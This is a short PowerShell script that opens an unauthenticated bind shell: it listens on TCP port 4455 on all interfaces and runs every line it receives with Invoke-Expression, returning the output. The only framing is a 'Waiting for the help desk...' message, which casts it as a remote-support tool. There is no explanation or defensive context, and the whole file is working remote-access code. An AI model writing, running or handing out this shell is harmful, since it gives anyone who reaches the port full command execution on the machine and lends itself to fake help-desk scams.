$listener = [System.Net.Sockets.TcpListener]::new([System.Net.IPAddress]::Any, 4455)
$listener.Start()
Write-Host 'Waiting for the help desk...'
$client = $listener.AcceptTcpClient()
$stream = $client.GetStream()
$reader = New-Object IO.StreamReader($stream)
$writer = New-Object IO.StreamWriter($stream)
$writer.AutoFlush = $true
while (($line = $reader.ReadLine()) -ne $null) {
    try { $out = Invoke-Expression $line 2>&1 | Out-String } catch { $out = $_.ToString() }
    $writer.Write($out + 'PS> ')
}
$client.Close(); $listener.Stop()
